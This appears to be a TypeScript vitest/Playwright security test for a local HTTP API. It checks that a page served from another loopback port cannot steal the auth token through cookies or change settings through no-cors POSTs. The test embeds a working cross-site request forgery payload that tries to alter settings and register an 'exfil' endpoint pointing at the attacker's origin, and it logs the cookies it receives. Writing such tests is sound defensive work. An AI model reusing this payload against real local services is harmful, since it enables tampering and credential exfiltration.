// In a real browser: a page served from another port of 127.0.0.1 must get
// neither the token (browsers send a host's cookies to every port) nor a way to act with it
// (no-cors text/plain POSTs carry cookies but cannot set headers or a JSON Content-Type).
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startHttpServer, type RunningServer } from '../../src-main/api/http-server.ts'
import { createService } from '../../src-main/api/service.ts'
import { Engine } from '../../src-main/core/engine.ts'
import { launchChromium } from '../e2e/harness.ts'
import { tempDir } from '../fixtures/tmp.ts'

const token = 'cross-port-token-0123456789'

describe('serve against a page on another loopback port', () => {
  let engine: Engine
  let serve: RunningServer
  let attacker: Server
  let browser: Browser
  const seen: { url: string; headers: IncomingHttpHeaders }[] = []

  beforeAll(async () => {
    const ui = join(tempDir(), 'ui')
    mkdirSync(ui)
    writeFileSync(join(ui, 'index.html'), '<!doctype html><title>workbench</title>')
    engine = new Engine({ dataDir: tempDir(), log: () => undefined })
    serve = await startHttpServer({ service: createService(engine), events: engine, staticDir: ui, token, log: () => undefined })
    const target = `http://127.0.0.1:${serve.port}`
    // What a hostile local page does: posts as a form would (no-cors, text/plain), then reports.
    const page = `<!doctype html><script>
      const post = (method, body) => fetch('${target}/api/' + method, { method: 'POST', mode: 'no-cors', credentials: 'include',
        headers: { 'content-type': 'text/plain' }, body: JSON.stringify(body) }).catch(() => null)
      Promise.all([
        post('settings.set', { maxConcurrentJobs: 9 }),
        post('endpoints.save', { name: 'exfil', baseUrl: location.origin + '/v1', model: 'm', settings: { keyEnv: 'LEAFE_ENDPOINT_KEY_X' } }),
      ]).then(() => fetch('/report', { credentials: 'include' })).then(() => { document.title = 'done' })
    </script>`
    attacker = createServer((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers })
      res.writeHead(200, { 'content-type': 'text/html' }).end(page)
    })
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()))
    browser = await launchChromium()
  })
  afterAll(async () => {
    await browser?.close()
    await serve?.close()
    await new Promise((r) => attacker?.close(r))
    await engine?.close()
  })

  it('leaks no token in a cookie and lets no foreign page change anything', async () => {
    const context = await browser.newContext()
    const tab = await context.newPage()
    expect((await tab.goto(serve.url))!.status()).toBe(200)
    const cookies = await context.cookies(`http://127.0.0.1:${serve.port}`)
    expect(cookies.length).toBeGreaterThan(0)
    for (const c of cookies) expect(c.value).not.toContain(token)

    const before = engine.settings()
    await tab.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`)
    await tab.waitForFunction(() => document.title === 'done')
    const sentCookies = seen.map((s) => s.headers.cookie ?? '').join('; ')
    expect(sentCookies).toContain('leafe_page_') // the browser did hand our cookie to the other port …
    expect(sentCookies).not.toContain(token) // … but it carries no token
    expect(engine.settings()).toEqual(before)
    expect(engine.db.prepare(`SELECT count(*) AS n FROM endpoints`).get()).toEqual({ n: 0 })

    // Replaying the cookie the other port received opens the UI files, never the API.
    const res = await fetch(`http://127.0.0.1:${serve.port}/api/settings.get`, {
      method: 'POST', headers: { cookie: sentCookies, 'content-type': 'application/json' }, body: '{}',
    })
    expect(res.status).toBe(401)
    await context.close()
  })
})
